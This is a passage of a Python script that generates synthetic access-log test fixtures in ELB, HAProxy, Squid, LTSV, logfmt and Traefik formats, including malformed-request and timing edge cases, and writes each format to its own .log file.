            left["extra"] = ["of tomorrow", "7"]
        yield Line(line, r, left, {"remote_port": port_of(i)})


def elb():
    """The classic load balancer; the last line is of a plain TCP listener."""
    tcp = REQUESTS[0]._replace(method=None, target="- - - ", status=None, agent=None)
    for i, r in enumerate((*REQUESTS, tcp)):
        if r.method:
            r = tame(r)._replace(target=f"https://{r.host}:443{tame(r).target}", protocol="HTTP/1.1")
        else:
            r = r._replace(protocol=None, host=None)
        r = told(r, took=1000, user=None, referrer=None, size=r.size or 0)
        took = [f"{part / 1e6:.6f}" for part in parts(nanos(r) // 1000)]
        if i in (6, 14):
            r, took = r._replace(seconds=None), ["-1", "-1", "-1"] if i == 14 else [took[0], "-1", "-1"]
        line, left = from_template(ELB % ("backend", "backend"), r, {
            "elb": "shop", "backend": None if i == 14 else f"{BACKEND}:80",
            "backend_status_code": as_text(r.status) if r.seconds else None,
            "received_bytes": str(100 + i), "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256" if r.method else None,
            "ssl_protocol": "TLSv1.2" if r.method else None},
            when=iso(r, 6), port=port_of(i), first=took[0], second=took[1], third=took[2],
            request=request_line(r))
        yield Line(line, r, left, {"remote_port": port_of(i)})


def haproxy():
    """`option httplog`, its addresses of IPv6 without brackets, its odd characters as # and two digits."""
    def escaped(value, odd):
        return "".join(chr(byte) if 31 < byte < 127 and chr(byte) not in odd else f"#{byte:02X}"
                       for byte in value.encode())

    bad = [REQUESTS[4]._replace(method=None, target="<BADREQ>", protocol=None, status=status, size=0,
                                seconds=seconds) for status, seconds in ((400, 0.0), (None, 9.999))]
    for i, r in enumerate((*REQUESTS, *bad)):
        r = told(r, MILLISECOND, 1_000_000, user=None, target=escaped(r.target, '"#'), size=r.size or 0,
                 agent=escaped(r.agent or "", '"#{|}'), host=None)
        total = nanos(r) // 1_000_000
        early = "+" if i in (3, 7) else ""
        captured = (None, ("shop.example|" + r.agent,), ("shop.example", ""), ("||", "text/html|"))[
            i % 4] if r.method else None
        queue, wait, connect, answer = (total // n if r.method else -1 for n in (9, 8, 7, 6))
        left = {
            "frontend": "http-in~" if i % 2 else "http-in", "backend": "shop" if r.method else "http-in",
            "server": "web1" if r.method else "<NOSRV>", "TR": str(queue), "Tw": str(wait),
            "Tc": str(connect), "Tr": str(answer), "captured_request_cookie": "basket=7" if i == 2 else None,
            "captured_response_cookie": None, "termination_state": "----" if r.method else "PR--",
            "actconn": "2", "feconn": "1", "beconn": "1", "srv_conn": "0", "retries": "+1" if i == 6 else "0",
            "srv_queue": "0", "backend_queue": "0"}
        when = f"{clf(r).split()[0]}.{micros(r) // 1000 % 1000:03}"
        line, _ = from_template(
            "{remote}:{port} [{when}] {frontend} {backend}/{server} {TR}/{Tw}/{Tc}/{Tr}/{took} {answered}"
            " {sent} {captured_request_cookie} {captured_response_cookie} {termination_state}"
            " {actconn}/{feconn}/{beconn}/{srv_conn}/{retries} {srv_queue}/{backend_queue}", r, left,
            port=port_of(i), when=when, took=f"{early}{total}", sent=f"{early}{r.size}",
            answered=-1 if r.status is None else r.status)
        for name, value in zip(("captured_request_headers", "captured_response_headers"), captured or ()):
            line += " {" + value + "}"
            left[name] = value
        line += f' "{request_line(r)}"'
        if i % 5 != 4:
            line = f"{bsd_time(r)} lb1 haproxy[1234]: {line}"
            left = {"syslog_host": "lb1", "syslog_tag": "haproxy", "remote_port": port_of(i), **left}
        else:
            left = {"remote_port": port_of(i), **left}
        yield Line(line, r._replace(agent=None, referrer=None), left)


def squid():
    """The native format of a proxy; without protocol, agent and referrer."""
    tunnel = REQUESTS[1]._replace(method="CONNECT", target="shop.example:443", status=200)
    gone = REQUESTS[3]._replace(status=None, size=0)
    invalid = REQUESTS[4]._replace(method=None, target="error:invalid-request", status=400)
    for i, r in enumerate((*REQUESTS, tunnel, gone, invalid)):
        r = told(tame(r), MILLISECOND, 1_000_000, protocol=None, agent=None, referrer=None, size=r.size or 0)
        if r.method not in (None, "CONNECT"):
            port = ":8080" if i % 4 == 1 else ""
            r = r._replace(target=f"http://{r.host}{port}{r.target}")
        elif r.method is None:
            r = r._replace(host=None)
        result = "TCP_TUNNEL" if r.method == "CONNECT" else "TAG_NONE" if r.method is None else (
            "TCP_MISS_ABORTED" if r.status is None else "TCP_HIT" if r.status == 304 else "TCP_MISS")
        line, left = from_template(
            "{when} {took} {remote} {result_code}/{answered} {size} {method} {target} {user} {hierarchy}"
            " {content_type}", r, {
                "result_code": result, "hierarchy": "HIER_DIRECT/192.0.2.9" if r.method else "HIER_NONE/-",
                "content_type": "text/html" if r.size else None},
            when=epoch(r, 3), took=f"{nanos(r) // 1_000_000:6}", answered=f"{r.status or 0:03}")
        yield Line(line, r, left)


def ltsv():
    """ltsv.org's labels: as for Apache, as for nginx, and with what either has besides."""
    for i, r in enumerate(REQUESTS):
        left, more, style = {}, {}, i % 3
        r = told(r, MILLISECOND if style == 1 else SECOND, (None, 1_000_000, 1000)[style],
                 host=r.host + ":8443" if style else None)
        ends = [("status", r.status), ("size", r.size), ("referer", r.referrer), ("ua", r.agent)]
        if style == 0:
            left["ident"] = "ident7" if i == 3 else None
            fields = [("host", r.remote), ("ident", left["ident"]), ("user", r.user), ("time", f"[{clf(r)}]"),
                      ("req", request_line(r)), *ends]
        elif style == 1:
            more["xforwardedfor"] = f"{r.remote}, {PROXY}" if i == 4 else None
            left.update(apptime=f"{r.seconds / 2:.3f}", cache="HIT" if i % 2 else None)
            fields = [("time", iso(r, 3, 60)), ("host", r.remote), ("forwardedfor", more["xforwardedfor"]),
                      ("user", r.user), ("method", r.method), ("uri", r.target), ("protocol", r.protocol),
                      *ends, ("reqtime", f"{r.seconds:.3f}"), *left.items(), ("vhost", r.host)]
        else:
            left["reqsize"] = str(100 + i)
            fields = [("host", r.remote), ("user", r.user), ("time", f"[{clf(r, 60)}]"),
                      ("req", request_line(r)), *ends, ("vhost", r.host),
                      ("reqtime_microsec", nanos(r) // 1000), *left.items()]
        yield Line("\t".join(f"{label}:{dash(value)}" for label, value in fields), r, left, more)


def logfmt():
    """Four programs with names, units and quotes of their own; what is none is a dash, left out or empty."""
    def value_text(text, style):
        bare = not any(c <= " " or c == '"' or c == "=" and style < 2 for c in text)
        return text if bare and text else "" if style == 3 and not text else to_json(text)

    for i, r in enumerate(REQUESTS):
        style, more, port = i % 4, {}, port_of(i)
        if style in (1, 2) and i > 4:
            more["xforwardedfor"] = f"{r.remote}, {PROXY}"
        forwarded = more.get("xforwardedfor")
        r = told(r, (MILLISECOND, 1, MILLISECOND, SECOND)[style], (1, 1000, 1000, 1)[style])
        left = {"trace_id": f"6f1d4c{i:02}"}
        if style == 0:
            names = [("time", iso(r, 3)), ("level", "info"), ("msg", "handled request"),
                     ("remote_ip", r.remote), ("method", r.method), ("uri", r.target), ("proto", r.protocol),
                     ("status", r.status), ("bytes", r.size), ("user_agent", r.agent),
                     ("referer", r.referrer), ("duration", f"{nanos(r) / 1e6:.6f}ms"), ("user", r.user),
                     ("host", r.host + ":8080")]
        elif style == 1:
            names = [("lvl", "info"), ("ts", iso(r, 6, 60)), ("client_ip", r.remote),
                     ("request_method", r.method), ("url", r.target), ("protocol", r.protocol),
                     ("status_code", r.status), ("size", r.size), ("ua", r.agent),
                     ("http_referer", r.referrer), ("elapsed", f"{nanos(r) // 1000}µs"),
                     ("username", r.user), ("vhost", r.host), ("x_forwarded_for", forwarded)]
        elif style == 2:
            more["remote_port"] = port
            names = [("t", epoch(r, 3)), ("remote", with_port(r.remote, port)), ("method", r.method),
                     ("path", r.target), ("proto", r.protocol), ("code", r.status), ("length", r.size),
                     ("agent", r.agent), ("referrer", r.referrer), ("took", f"{r.seconds:.6f}"),
                     ("remote_user", r.user), ("server_name", r.host), ("fwd", forwarded)]
        else:
            unit = ("us", "ns", "s")[i % 3]
            took = {"us": nanos(r) / 1000, "ns": nanos(r), "s": f"{r.seconds:.9f}"}[unit]
            names = [("timestamp", iso(r)), ("client", r.remote), ("method", r.method),
                     ("request_uri", r.target), ("protocol", r.protocol), ("status", r.status),
                     ("body_bytes_sent", r.size), ("http_user_agent", r.agent),
                     ("http_referer", r.referrer), ("request_time", f"{took}{unit}")]
            r = r._replace(user=None, host=None)
        none = ("-", None, "", "")[style]
        fields = [(name, none if value is None else str(value)) for name, value in [*names, *left.items()]]
        yield Line(" ".join(f"{name}={value_text(value, style)}" for name, value in fields
                            if value is not None), r, left, more)


def traefik():
    """Traefik's own CLF escapes nothing; no status is 0."""
    closed = REQUESTS[3]._replace(status=None, size=0)
    for i, r in enumerate((*REQUESTS, closed)):
        r = told(r._replace(agent=tame(r).agent), SECOND, 1_000_000, size=r.size or 0, host=None)
        left = {"request_count": str(i + 1), "router": None if i == 11 else "shop@docker",
                "server_url": None if i == 11 else f"http://{BACKEND}:80"}
        line, _ = from_template(
            '{remote} - {user} [{when}] "{request}" {answered} {size} "{referrer}" "{agent}" {request_count}'
            ' "{router}" "{server_url}" {total}ms', r, left, when=clf(r, 60 if i % 5 == 3 else 0),
            request=request_line(r), answered=r.status or 0, total=nanos(r) // 1_000_000)
        yield Line(line, r, left)


FORMATS = {make.__name__: make for make in (
    caddy, traefik_json, envoy, gcp, cloudflare, alb_json, pino, docker, cri, syslog, w3c, cloudfront, s3,
    alb, elb, haproxy, squid, ltsv, logfmt, traefik)}


def text_of(lines):
    return "".join((line if isinstance(line, str) else line.text) + "\n" for line in lines)


def make_formats(folder):
    (folder / "formats").mkdir(parents=True, exist_ok=True)
    for name, make in FORMATS.items():
        lines = list(make())
        (folder / "formats" / f"{name}.log").write_text(text_of(lines), encoding="utf-8", newline="\n")
        print(f"formats/{name}.log: {len(lines)} lines")
